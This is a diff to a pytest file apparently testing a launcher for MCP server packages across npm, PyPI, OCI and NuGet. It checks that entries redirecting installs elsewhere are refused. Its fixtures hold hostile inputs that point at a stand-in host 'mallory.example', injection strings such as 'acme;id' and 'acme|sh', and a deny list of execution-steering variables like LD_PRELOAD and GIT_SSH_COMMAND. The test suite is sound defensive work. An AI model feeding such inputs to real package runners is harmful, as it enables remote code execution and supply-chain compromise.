@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import itertools
 from typing import Any
+from urllib.parse import urlsplit
 
 import pytest
 
@@ -18,10 +19,19 @@ SOURCES = [
     ("nuget", "--source", "https://api.nuget.org", "https://api.nuget.org/v3/index.json"),
 ]
 VARIABLES = {
-    "npm": ("npm_config_registry", "NPM_CONFIG_PACKAGE", "NODE_OPTIONS", "LD_PRELOAD", "PATH"),
-    "pypi": ("UV_DEFAULT_INDEX", "UV_OVERRIDE", "PIP_INDEX_URL", "PYTHONPATH", "BASH_ENV"),
-    "oci": ("DOCKER_HOST", "DOCKER_CONTEXT", "CONTAINER_HOST"),
-    "nuget": ("DOTNET_STARTUP_HOOKS", "NUGET_PLUGIN_PATHS", "DYLD_INSERT_LIBRARIES"),
+    "npm": (
+        *("npm_config_registry", "NPM_CONFIG_PACKAGE", "NODE_OPTIONS", "LD_PRELOAD", "PATH"),
+        *("ComSpec", "USERPROFILE", "PREFIX", "COREPACK_NPM_REGISTRY", "GIT_SSH_COMMAND"),
+    ),
+    "pypi": (
+        *("UV_DEFAULT_INDEX", "UV_OVERRIDE", "PIP_INDEX_URL", "PYTHONPATH", "BASH_ENV"),
+        *("PYTHONWARNINGS", "BROWSER", "PYTHONPYCACHEPREFIX", "XDG_CONFIG_HOME", "OPENSSL_CONF"),
+    ),
+    "oci": ("DOCKER_HOST", "DOCKER_CONTEXT", "CONTAINER_HOST", "PODMAN_CONNECTIONS_CONF"),
+    "nuget": (
+        *("DOTNET_STARTUP_HOOKS", "NUGET_PLUGIN_PATHS", "DYLD_INSERT_LIBRARIES"),
+        *("CORECLR_PROFILER_PATH", "DOTNET_ROOT_X64", "APPDATA"),
+    ),
 }
 OPTIONS = [
     ("npm", "", "--node-options=--import=data:text/javascript,0"),
@@ -30,6 +40,10 @@ OPTIONS = [
     ("pypi", "", "-c https://mallory.example/c.txt"),
     ("pypi", "", "--env-file /tmp/env"),
     ("pypi", "", "--project /tmp/p"),
+    ("npm", "", r"--cache \\mallory.example\npm"),
+    ("pypi", "", r"--cache-dir \\mallory.example\uv"),
+    ("pypi", "", r"--python \\mallory.example\bin\python.exe"),
+    ("pypi", "pipx", "--python /tmp/python"),
     ("pypi", "", "--with acme-weather@git+https://mallory.example/w"),
     ("pypi", "pipx", "--pip-args=--index-url=https://mallory.example/simple"),
     ("pypi", "pipx", "--python-args=-cimport_mallory"),
@@ -55,6 +69,12 @@ def test_a_package_that_is_said_to_be_public_is_taken_from_no_other_registry(
     elsewhere = [word(option), word("https://mallory.example/simple")]
     other = entry(kind, *elsewhere, registryBaseUrl=base)
     assert refused(other) and "elsewhere than the public registry" in other.reason
+    for disguised in (
+        rf"https://mallory.example\@{urlsplit(usual).hostname}/",
+        f"https://mallory.example@{urlsplit(usual).hostname}/",
+        usual.replace("https:", "http:"),
+    ):
+        assert refused(entry(kind, word(option), word(disguised), registryBaseUrl=base)), disguised
     assert argv(entry(kind, *elsewhere)), "an entry may name its registry by an argument alone"
 
 
@@ -66,7 +86,12 @@ def test_a_registry_of_ones_own_has_no_second_beside_it() -> None:
 
 @pytest.mark.parametrize(("kind", "name"), NAMED)
 def test_a_variable_that_steers_the_runner_is_not_set_by_an_entry(kind: str, name: str) -> None:
-    for given in ({"value": "x"}, {"default": "x"}, {"value": "{a}/x", "variables": {"a": {}}}):
+    for given in (
+        {"value": "x"},
+        {"default": "x"},
+        {"choices": ["x", "y"]},
+        {"value": "{a}/x", "variables": {"a": {}}},
+    ):
         launch = with_variable(kind, name, **given)
         assert refused(launch) and name in launch.reason, given
     assert argv(with_variable(kind, name)), "what the user gives is the user's"
@@ -99,18 +124,73 @@ def test_a_crate_that_is_called_as_a_program_of_the_system_is_not_started(name: 
     assert argv(own) == [f"{name}-mcp"]
 
 
-@pytest.mark.parametrize("program", ["bash", "Python3", "node", "cmd.exe", "/bin/acme", "..\\acme"])
+@pytest.mark.parametrize(
+    "program",
+    [
+        *(
+            "bash",
+            "Python3",
+            "node",
+            "cmd.exe",
+            "/bin/acme",
+            "..\\acme",
+            "python3.12",
+            "python@3.12",
+        ),
+        *("npx.cmd", "bash.", "lua5.4.exe", "acme;id", "acme|sh", "$SHELL", "acme&calc", "-x"),
+    ],
+)
 def test_what_starts_in_a_package_is_a_program_of_its_own(program: str) -> None:
     for kind, option in (("npm", "-p @acme/weather"), ("pypi", "--from acme-weather")):
         given = [word(part) for part in f"{option} {program} -c x".split()]
         launch = entry(kind, *given)
         assert refused(launch) and program in launch.reason
+        for offered in ({"default": program}, {"choices": [program]}):
+            asked = {"type": "positional", "valueHint": "program", "isRequired": True, **offered}
+            assert refused(entry(kind, *given[:2], asked))
         own = entry(kind, *[word(part) for part in f"{option} acme-{kind} -c x".split()])
         assert argv(own)[-3:] == [f"acme-{kind}", "-c", "x"]
 
 
+@pytest.mark.parametrize(
+    ("kind", "identifier", "version"),
+    [
+        *[("pypi", name, "3.12") for name in ("python", "Python3.11", "cpython", "pypy39")],
+        *[("pypi", "acme-weather", version) for version in ("1..0", "1.0-", "1.0+", "1_")],
+        *[("npm", f"acme{ending}", "1.2.3") for ending in (".tgz", ".tar.gz", ".tar")],
+        ("oci", "0123456789abcdef" * 4, ""),
+    ],
+)
+def test_a_name_or_version_that_a_runner_takes_for_something_else_has_no_command(
+    kind: str, identifier: str, version: str
+) -> None:
+    assert refused(entry(kind, identifier=identifier, version=version))
+
+
+def test_a_package_beside_comes_from_no_address_that_is_filled_in() -> None:
+    for given in ({"default": "git+https://mallory.example/w"}, {"choices": ["a", "./b"]}):
+        asked = {"type": "positional", "valueHint": "beside", "isRequired": True, **given}
+        assert refused(entry("pypi", word("--with"), asked))
+    assert argv(entry("pypi", word("--with"), word("mcp>=1"), word("--python"), word("3.12")))
+
+
+def test_an_image_of_docker_hub_says_so_to_podman() -> None:
+    for written, full in (
+        ("acme/weather:1", "docker.io/acme/weather:1"),
+        ("weather:1", "docker.io/weather:1"),
+        ("ghcr.io/acme/weather:1", "ghcr.io/acme/weather:1"),
+        ("localhost:5000/weather:1", "localhost:5000/weather:1"),
+    ):
+        assert argv(entry("oci", identifier=written, runtimeHint="podman"))[-1] == full
+        named = entry("oci", word(written), identifier=written, runtimeHint="podman")
+        assert argv(named)[-1] == full
+        assert argv(entry("oci", identifier=written))[-1] == written
+
+
 def test_other_variables_are_set() -> None:
-    for kind, name in itertools.product(EXACT, ("NODE_ENV", "UVICORN_PORT", "LDAP_URL", "PATHS")):
+    for kind, name in itertools.product(
+        EXACT, ("NODE_ENV", "UVICORN_PORT", "LDAP_URL", "PATHS", "GIT_AUTHOR_NAME")
+    ):
         assert argv(with_variable(kind, name, value="1"))
 
 
